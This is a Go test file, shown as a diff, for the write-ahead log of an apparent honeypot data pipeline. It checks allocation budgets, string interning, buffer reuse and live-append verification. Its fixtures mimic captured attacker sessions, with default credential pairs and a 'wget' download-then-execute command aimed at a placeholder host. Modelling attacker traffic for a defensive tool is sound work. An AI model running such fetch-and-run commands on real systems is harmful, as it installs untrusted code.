@@ -1,0 +1,334 @@
+package wal
+
+// What a recovery allocates, and what it must still get right while
+// allocating little: the scan reads every segment into one reused
+// buffer, decodes each batch into one slab, and interns every string
+// field, so a restart costs about what the recovered records keep.
+
+import (
+	"fmt"
+	"hash/fnv"
+	"os"
+	"path/filepath"
+	"reflect"
+	"runtime"
+	"testing"
+	"time"
+
+	"honeyfarm/internal/honeypot"
+	"honeyfarm/internal/iofault"
+)
+
+// The recovery budget per record, for Open and for an Iterator drain.
+const (
+	maxAllocsPerRec = 2
+	maxBytesPerRec  = 600
+)
+
+// mixedRecords builds n deterministic records shaped like the
+// generator's: Table 1's category mix, most sessions from a client IP
+// seen before replaying the same few credentials and command
+// templates, and every few a value no other record has.
+func mixedRecords(first uint64, n int) []*honeypot.SessionRecord {
+	creds := []honeypot.LoginAttempt{
+		{User: "root", Password: "root"}, {User: "admin", Password: "admin"},
+		{User: "root", Password: "123456"}, {User: "ubnt", Password: "ubnt"},
+	}
+	cmds := []honeypot.CommandRecord{
+		{Input: "uname -a", Known: true}, {Input: "cat /proc/cpuinfo", Known: true},
+		{Input: "cd /tmp", Known: true}, {Input: "wget http://update.example/payload", Known: true},
+		{Input: "./payload"},
+	}
+	out := make([]*honeypot.SessionRecord, n)
+	for i := range out {
+		id := first + uint64(i)
+		r := &honeypot.SessionRecord{
+			ID:         id,
+			HoneypotID: int(id % 221),
+			Protocol:   honeypot.Protocol(id % 2),
+			ClientIP:   fmt.Sprintf("198.51.%d.%d", id%7, id%13),
+			ClientPort: 1024 + int(id%60000),
+			Start:      testEpoch.Add(time.Duration(id) * time.Second),
+			End:        testEpoch.Add(time.Duration(id)*time.Second + 30*time.Second),
+		}
+		if id%10 == 0 {
+			r.ClientIP = fmt.Sprintf("203.0.%d.%d", id/256%256, id%256)
+		}
+		login := []honeypot.LoginAttempt{{User: "root", Password: "admin", Success: true}}
+		switch c := id % 20; {
+		case c < 5: // NO_CRED
+			r.Termination = honeypot.TermClient
+		case c < 14: // FAIL_LOG: one to three attempts
+			r.ClientVersion = "SSH-2.0-Go"
+			for k := uint64(0); k <= id/20%3; k++ {
+				r.Logins = append(r.Logins, creds[(id+k)%uint64(len(creds))])
+			}
+			if c == 13 {
+				r.Logins[0].Password = fmt.Sprintf("pw-%d", id)
+			}
+			r.Termination = honeypot.TermAuthFailure
+		case c < 17: // NO_CMD
+			r.Logins = login
+			r.Termination = honeypot.TermTimeout
+		case c < 19: // CMD
+			r.Logins, r.Commands = login, cmds[:2]
+			r.Termination = honeypot.TermExit
+		default: // CMD+URI
+			r.Logins, r.Commands = login, cmds[2:]
+			r.URIs = []string{fmt.Sprintf("http://dl-%d.example/payload", id%50)}
+			r.Files = []honeypot.FileRecord{{Path: "/tmp/payload", Hash: fmt.Sprintf("%064x", id%40), Op: "create", Size: 4096}}
+			r.Transcript = []byte(fmt.Sprintf("Linux pot-%d 4.19.0\n", r.HoneypotID))
+			r.Termination = honeypot.TermExit
+		}
+		out[i] = r
+	}
+	return out
+}
+
+// writeLog appends batches of mixedRecords to a fresh log in dir and
+// returns them in log order.
+func writeLog(tb testing.TB, dir string, segBytes int64, sizes []int) []Batch {
+	tb.Helper()
+	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: segBytes})
+	if err != nil {
+		tb.Fatal(err)
+	}
+	var out []Batch
+	next := uint64(1)
+	for i, n := range sizes {
+		b := Batch{Tag: uint64(i), Records: mixedRecords(next, n)}
+		if err := l.AppendTagged(b.Tag, b.Records); err != nil {
+			tb.Fatal(err)
+		}
+		out, next = append(out, b), next+uint64(n)
+	}
+	if err := l.Close(); err != nil {
+		tb.Fatal(err)
+	}
+	return out
+}
+
+// budgetLog writes the log the budget tests and BenchmarkOpen recover:
+// 6,000 records in batches of 250 over 128 KiB segments.
+func budgetLog(tb testing.TB, dir string) (records, segments int) {
+	tb.Helper()
+	sizes := make([]int, 24)
+	for i := range sizes {
+		sizes[i] = 250
+	}
+	writeLog(tb, dir, 128<<10, sizes)
+	segs, err := listSegments(iofault.OS, dir)
+	if err != nil {
+		tb.Fatal(err)
+	}
+	if len(segs) < 3 {
+		tb.Fatalf("log spans %d segments, want at least 3", len(segs))
+	}
+	return 6000, len(segs)
+}
+
+// allocsPerRec runs read and reports what it allocated per record.
+func allocsPerRec(records int, read func()) (allocs, bytes float64) {
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	read()
+	runtime.ReadMemStats(&after)
+	n := float64(records)
+	return float64(after.Mallocs-before.Mallocs) / n, float64(after.TotalAlloc-before.TotalAlloc) / n
+}
+
+// TestRecoverAllocBudget gates what Open allocates per recovered
+// record: the records it returns and little else.
+func TestRecoverAllocBudget(t *testing.T) {
+	dir := t.TempDir()
+	records, segs := budgetLog(t, dir)
+	var got int
+	allocs, bytes := allocsPerRec(records, func() {
+		l, rec, err := Open(dir, Options{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		got = rec.Records()
+		if err := l.Close(); err != nil {
+			t.Fatal(err)
+		}
+	})
+	if got != records {
+		t.Fatalf("recovered %d records, want %d", got, records)
+	}
+	t.Logf("Open over %d segments: %.2f allocs and %.0f B per record", segs, allocs, bytes)
+	if allocs > maxAllocsPerRec || bytes > maxBytesPerRec {
+		t.Errorf("Open allocated %.2f objects and %.0f B per record, budget %d and %d B",
+			allocs, bytes, maxAllocsPerRec, maxBytesPerRec)
+	}
+}
+
+// TestIteratorAllocBudget holds a tailing drain of the same log to the
+// same budget: a refill reads into the buffer it already has.
+func TestIteratorAllocBudget(t *testing.T) {
+	dir := t.TempDir()
+	records, segs := budgetLog(t, dir)
+	var got int
+	allocs, bytes := allocsPerRec(records, func() {
+		it, err := NewIterator(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer it.Close()
+		for {
+			b, ok, err := it.Next()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !ok {
+				return
+			}
+			got += len(b.Records)
+		}
+	})
+	if got != records {
+		t.Fatalf("drained %d records, want %d", got, records)
+	}
+	t.Logf("Iterator over %d segments: %.2f allocs and %.0f B per record", segs, allocs, bytes)
+	if allocs > maxAllocsPerRec || bytes > maxBytesPerRec {
+		t.Errorf("Iterator allocated %.2f objects and %.0f B per record, budget %d and %d B",
+			allocs, bytes, maxAllocsPerRec, maxBytesPerRec)
+	}
+}
+
+// TestInternCollision alternates two strings that share an intern slot
+// across the records of one batch: each record still decodes its own.
+func TestInternCollision(t *testing.T) {
+	slot := func(s string) uint32 {
+		h := fnv.New32a()
+		h.Write([]byte(s))
+		return h.Sum32() % internSlots
+	}
+	first := map[uint32]string{}
+	var a, b string
+	for i := 0; b == ""; i++ {
+		s := fmt.Sprintf("192.0.2.%d:%d", i%256, i/256)
+		if prev, ok := first[slot(s)]; ok {
+			a, b = prev, s
+		}
+		first[slot(s)] = s
+	}
+	recs := mkRecords(1, 64)
+	for i, r := range recs {
+		r.ClientIP = []string{a, b}[i%2]
+		r.Logins = []honeypot.LoginAttempt{{User: r.ClientIP, Password: []string{b, a}[i%2]}}
+	}
+	got := binaryRoundTrip(t, 1, recs)
+	for i, r := range got.Records {
+		if r.ClientIP != recs[i].ClientIP || !reflect.DeepEqual(r.Logins, recs[i].Logins) {
+			t.Fatalf("record %d decoded %q %+v, want %q %+v", i, r.ClientIP, r.Logins, recs[i].ClientIP, recs[i].Logins)
+		}
+	}
+}
+
+// TestRecoverBufferReuse recovers a log whose later segments are both
+// shorter and longer than the first, so the scan's one buffer is
+// overwritten in place and regrown: every record must still equal what
+// was appended once the scan has returned.
+func TestRecoverBufferReuse(t *testing.T) {
+	dir := t.TempDir()
+	// One batch per segment: every append fills one.
+	want := writeLog(t, dir, 1, []int{40, 5, 120, 20, 3, 200, 60})
+	l, rec, err := Open(dir, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	if len(rec.Segments) < len(want) {
+		t.Fatalf("log spans %d segments, want %d", len(rec.Segments), len(want))
+	}
+	if !reflect.DeepEqual(rec.Batches, want) {
+		for i := range want {
+			if !reflect.DeepEqual(rec.Batches[i], want[i]) {
+				t.Fatalf("batch %d (segment %s) does not read back as appended", i, rec.Segments[i].Name)
+			}
+		}
+		t.Fatalf("recovered %d batches, want %d", len(rec.Batches), len(want))
+	}
+}
+
+// appendingFS appends one intact batch frame to every segment it opens
+// for reading before it hands the file over: a writer that got in
+// between a scan's listing and its read.
+type appendingFS struct {
+	iofault.FS
+	t *testing.T
+}
+
+func (a appendingFS) OpenFile(name string, flag int, perm os.FileMode) (iofault.File, error) {
+	if flag == os.O_RDONLY {
+		f, err := os.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0)
+		if err != nil {
+			return nil, err
+		}
+		if _, err := f.Write(EncodeBatchFrame(nil, 1000, mkRecords(1000, 2))); err != nil {
+			a.t.Fatal(err)
+		}
+		if err := f.Close(); err != nil {
+			a.t.Fatal(err)
+		}
+	}
+	return a.FS.OpenFile(name, flag, perm)
+}
+
+// TestVerifyLiveAppend: a verification racing a writer reports the
+// segment it listed — the frames of the listed prefix and no torn
+// bytes — however far the file grew since.
+func TestVerifyLiveAppend(t *testing.T) {
+	dir := t.TempDir()
+	want := writeLog(t, dir, 8<<20, []int{10, 10, 10})
+	listed, err := listSegments(iofault.OS, dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rec, err := scan(appendingFS{iofault.OS, t}, dir, testEpoch, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	seg := rec.Segments[0]
+	if seg.Bytes != listed[0].Bytes || seg.GoodBytes != seg.Bytes || seg.TornBytes != 0 || rec.TornBytes != 0 {
+		t.Errorf("segment listed at %d bytes read as %d good, %d torn (total torn %d)",
+			listed[0].Bytes, seg.GoodBytes, seg.TornBytes, rec.TornBytes)
+	}
+	if seg.Frames != len(want) || len(rec.Batches) != len(want) {
+		t.Errorf("read %d frames, %d batches; the listed prefix holds %d", seg.Frames, len(rec.Batches), len(want))
+	}
+	info, err := os.Stat(filepath.Join(dir, seg.Name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if info.Size() <= seg.Bytes {
+		t.Fatalf("the writer did not get in: segment still %d bytes", info.Size())
+	}
+}
+
+// BenchmarkOpen recovers a fixed multi-segment log: the recovery row of
+// the package, reported per record.
+func BenchmarkOpen(b *testing.B) {
+	dir := b.TempDir()
+	records, _ := budgetLog(b, dir)
+	b.ReportAllocs()
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		l, _, err := Open(dir, Options{})
+		if err != nil {
+			b.Fatal(err)
+		}
+		if err := l.Close(); err != nil {
+			b.Fatal(err)
+		}
+	}
+	b.StopTimer()
+	runtime.ReadMemStats(&after)
+	n := float64(records * b.N)
+	b.ReportMetric(n/b.Elapsed().Seconds(), "records/s")
+	b.ReportMetric(float64(after.Mallocs-before.Mallocs)/n, "allocs/record")
+}
